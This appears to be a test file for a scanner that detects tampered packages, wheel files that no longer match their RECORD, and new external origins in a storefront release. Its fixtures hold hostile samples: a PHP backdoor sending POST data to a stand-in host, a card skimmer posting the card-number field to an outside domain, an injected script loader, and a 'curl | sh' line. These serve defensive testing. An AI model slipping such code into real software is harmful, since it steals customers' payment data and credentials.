// What a release changes in code it did not write: files of installed packages that
// differ from the baseline's copy of the same version (tampered-package), files of a
// wheel that no longer match its RECORD, and external origins the storefront starts to
// load or send to (new-origin), against a baseline given as a directory or as its report.
import { createHash } from 'node:crypto';
import { mkdir, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Report } from '../../src/model.js';
import { writeJsonReport } from '../../src/run/write-output.js';
import { scan } from '../../src/scan.js';
import { tempDir } from '../helpers/temp.js';

const installedJson = (packages: Record<string, string>): string =>
  JSON.stringify({ packages: Object.entries(packages).map(([name, version]) => ({ name, version, version_normalized: `${version}.0`, type: 'library' })) });

const CHECKOUT_OLD = `define(['jquery'], function ($) { $.getScript('https://www.paypalobjects.com/api/checkout.js'); });\n`;
const CHECKOUT_NEW = `define(['jquery'], function ($) {
  $.getScript('https://www.paypalobjects.com/api/checkout.js');
  var s = document.createElement('script'); s.src = 'https://cdn.analytics-metrics.com/m.js'; document.head.appendChild(s);
});\n`;
const PAY_FORM = `var n = document.getElementById('cc_number').value;\nfetch('https://card-verify.net/v', { method: 'POST', body: n });\n`;

const OLD: Record<string, string> = {
  'vendor/composer/installed.json': installedJson({ 'acme/payments': '1.2.0', 'acme/other': '2.0.0' }),
  'vendor/acme/payments/src/Client.php': '<?php\nclass Client { public function pay() { return true; } }\n',
  'vendor/acme/payments/src/Api.php': '<?php\nclass Api {}\n',
  'vendor/acme/other/src/Other.php': '<?php\nclass Other {}\n',
  'node_modules/lodash/package.json': JSON.stringify({ name: 'lodash', version: '4.17.21' }),
  'node_modules/lodash/lodash.js': 'module.exports = {};\n',
  'node_modules/left-pad/package.json': JSON.stringify({ name: 'left-pad', version: '1.3.0' }),
  'node_modules/left-pad/index.js': 'module.exports = (s) => s;\n',
  'app/design/frontend/Acme/theme/web/js/checkout.js': CHECKOUT_OLD,
  'pub/.htaccess': `Header set Content-Security-Policy "script-src 'self' https://*.paypal.com; frame-src https://js.stripe.com"\n`,
};

const NEW: Record<string, string> = {
  ...OLD,
  // same version, edited after install: a backdoor in a vendor file, a new file dropped in
  'vendor/acme/payments/src/Client.php': '<?php\nclass Client { public function pay() { @file_get_contents("https://x.example/" . base64_encode(serialize($_POST))); return true; } }\n',
  'vendor/acme/payments/src/Cache.php': '<?php\n// cache\n',
  'node_modules/lodash/lodash.js': 'module.exports = {}; require("https").get("https://npm-stats.example/p");\n',
  // a new version may change its files: no finding
  'node_modules/left-pad/package.json': JSON.stringify({ name: 'left-pad', version: '1.3.1' }),
  'node_modules/left-pad/index.js': 'module.exports = (s, n) => s.padStart(n);\n',
  'app/design/frontend/Acme/theme/web/js/checkout.js': CHECKOUT_NEW,
  'app/design/frontend/Acme/theme/web/js/pay.js': PAY_FORM,
  'pub/.htaccess': `Header set Content-Security-Policy "script-src 'self' https://*.paypal.com https://cdn.analytics-metrics.com; frame-src https://js.stripe.com"\n`,
};

async function tree(root: string, files: Record<string, string>): Promise<void> {
  for (const [path, content] of Object.entries(files)) {
    await mkdir(dirname(join(root, path)), { recursive: true });
    await writeFile(join(root, path), content);
  }
}

let oldDir = '';
let newDir = '';
let withDir: Report;
let withReport: Report;

beforeAll(async () => {
  const dir = await tempDir();
  oldDir = join(dir, 'shop-1.0.0');
  newDir = join(dir, 'shop-1.0.1');
  await tree(join(oldDir, 'shop'), OLD);
  await tree(join(newDir, 'shop'), NEW);
  withDir = await scan({ target: newDir, baseline: oldDir, advisories: ['none'] });
  const reportPath = join(dir, 'old.json');
  await writeJsonReport(reportPath, await scan({ target: oldDir, advisories: ['none'] }));
  withReport = await scan({ target: newDir, baseline: reportPath, advisories: ['none'] });
});

const tampered = (report: Report): string[] =>
  report.findings.filter((finding) => finding.kind === 'tampered-package').map((finding) => `${finding.severity} ${finding.package?.name ?? ''} ${finding.package?.version ?? ''}: ${finding.detail ?? ''}`)
    .sort();

describe('tampered packages against the baseline', () => {
  it('names the package, its version and the files that differ from the same version in the baseline', () => {
    expect(tampered(withDir)).toEqual([
      expect.stringMatching(/^high acme\/payments 1\.2\.0: in vendor\/acme\/payments: src\/Cache\.php, src\/Client\.php\. /),
      expect.stringMatching(/^high lodash 4\.17\.21: in node_modules\/lodash: lodash\.js\. /),
    ]);
    expect(withDir.findings.find((finding) => finding.package?.name === 'acme/payments')?.title).toMatch(/Packagist package acme\/payments 1\.2\.0 differs from the baseline's copy of the same version \(1 changed, 1 added\)/);
  });

  it('the same from the baseline report alone: it keeps every file hash', () => {
    expect(tampered(withReport)).toEqual(tampered(withDir));
  });
});

describe('external origins', () => {
  it('are listed in the report with how they are used and where', () => {
    const origins = Object.fromEntries(withDir.origins.map((record) => [record.origin, record]));
    expect(origins['https://www.paypalobjects.com']).toMatchObject({ uses: ['script'] });
    expect(origins['https://cdn.analytics-metrics.com']).toMatchObject({ uses: ['csp', 'script'] });
    expect(origins['https://card-verify.net']).toMatchObject({ uses: ['send'], payment: true, paths: ['shop/app/design/frontend/Acme/theme/web/js/pay.js'] });
    expect(origins['https://*.paypal.com']).toMatchObject({ uses: ['csp'] });
  });

  it('one production never referenced is new: medium, critical in code that reads payment fields', () => {
    const found = (report: Report): string[] =>
      report.findings.filter((finding) => finding.kind === 'new-origin').map((finding) => `${finding.severity} ${finding.title}`)
        .sort();
    expect(found(withDir)).toEqual([
      'critical Storefront code sends data to https://card-verify.net, an origin production never referenced, in code that reads payment fields',
      'medium Storefront code allows in its Content-Security-Policy, loads scripts from https://cdn.analytics-metrics.com, an origin production never referenced',
    ]);
    expect(found(withReport)).toEqual(found(withDir));
  });
});

describe('an installed wheel whose files no longer match its RECORD', () => {
  it('is a tampered package without any baseline', async () => {
    const dir = await tempDir();
    const site = 'venv/lib/python3.12/site-packages';
    const original = 'def get(url):\n    return url\n';
    const hash = createHash('sha256').update(original).digest('base64url');
    await tree(dir, {
      [`${site}/requests-2.32.3.dist-info/METADATA`]: 'Metadata-Version: 2.1\nName: requests\nVersion: 2.32.3\n',
      [`${site}/requests-2.32.3.dist-info/RECORD`]: `requests/api.py,sha256=${hash},${original.length}\nrequests/__init__.py,sha256=${hash},${original.length}\nrequests-2.32.3.dist-info/RECORD,,\n`,
      [`${site}/requests/api.py`]: 'import os\ndef get(url):\n    os.system("curl x | sh")\n    return url\n',
      [`${site}/requests/__init__.py`]: original,
    });
    const report = await scan({ target: dir, advisories: ['none'] });
    const findings = report.findings.filter((finding) => finding.kind === 'tampered-package');
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({ severity: 'high', rule: 'record-hash-mismatch', path: `${site.slice('venv/'.length)}/requests/api.py` });
    expect(findings[0]?.title).toBe('Installed Python package requests 2.32.3 has a file that no longer matches the hashes its RECORD lists');
  });
});
